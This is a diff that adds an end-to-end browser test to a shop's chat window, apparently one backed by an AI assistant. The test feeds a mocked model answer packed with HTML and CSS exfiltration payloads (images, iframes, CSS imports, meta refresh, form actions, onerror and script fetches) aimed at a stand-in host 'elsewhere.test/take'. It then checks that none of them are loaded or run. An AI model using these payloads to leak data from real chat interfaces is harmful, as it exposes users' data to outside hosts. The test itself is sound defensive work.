@@ -87,3 +87,46 @@ test('the switch on the administration page shows what tools are asked, and a co
     .waitFor()
   await answered()
 })
+
+test('whatever an answer holds, nothing outside of the shop is asked for, and no script runs', async () => {
+  const { page, shop } = stage
+  const asked: string[] = []
+  const sent: string[] = []
+  page.on('request', (request) => asked.push(request.url()))
+  // What a policy blocks never comes here.
+  await page.route(
+    (url) => url.hostname === 'elsewhere.test' || url.pathname === '/redirect',
+    (route) => {
+      sent.push(route.request().url())
+      return route.abort()
+    },
+  )
+  const outside = 'https://elsewhere.test/take'
+  const answer = `Look: <img src="${outside}?a=1"><img src="//elsewhere.test/b"><img srcset="${outside}?c 1x">
+<video poster="${outside}?d" src="${outside}?e" autoplay></video><audio src="${outside}?f" autoplay></audio>
+<iframe src="${outside}?g"></iframe><object data="${outside}?h"></object><embed src="${outside}?i">
+<link rel="stylesheet" href="${outside}?j"><link rel="preconnect" href="https://elsewhere.test"><style>@import '${outside}?k'; body { background: url('${outside}?l') }</style>
+<p style="background: url('${outside}?m')">Text</p><svg><image href="${outside}?n"></image><use href="${outside}?o"></use></svg>
+<meta http-equiv="refresh" content="0;url=${outside}?p"><base href="https://elsewhere.test/"><img src="take?q">
+<input type="image" src="${outside}?r"><table background="${outside}?s"><tr><td>1</td></tr></table>
+<form action="${outside}?t"><button autofocus>Go</button></form><a href="${outside}?u" ping="${outside}?v">Away</a>
+<img src="/redirect?to=${outside}"><img src=x onerror="fetch('${outside}?w')"><script>fetch('${outside}?x')</script><iframe srcdoc="&lt;img src='${outside}?y'&gt;"></iframe>`
+  await page.route('**/rest/chat', (route) =>
+    route.fulfill({
+      contentType: 'text/event-stream',
+      body: `data: ${JSON.stringify({ choices: [{ delta: { content: answer } }] })}\n\ndata: [DONE]\n\n`,
+    }),
+  )
+  await page.goto(shop.url + ADDRESS)
+  await say('hello')
+  await answered()
+  const frame = page.locator('#chat-window iframe')
+  await frame.contentFrame().getByText('Text').waitFor({ state: 'attached' })
+  await expect.poll(() => asked.some((url) => url.includes('/internet/elsewhere.test/take?a=1'))).toBe(true)
+  // Nothing is left to load, and pressing what stands there leads nowhere.
+  await page.waitForLoadState('networkidle')
+  await frame.click({ force: true, position: { x: 5, y: 5 } })
+  expect(sent).toEqual([])
+  expect(page.url()).toBe(shop.url + ADDRESS)
+  expect(await accessibilityProblems(page)).toEqual([])
+})
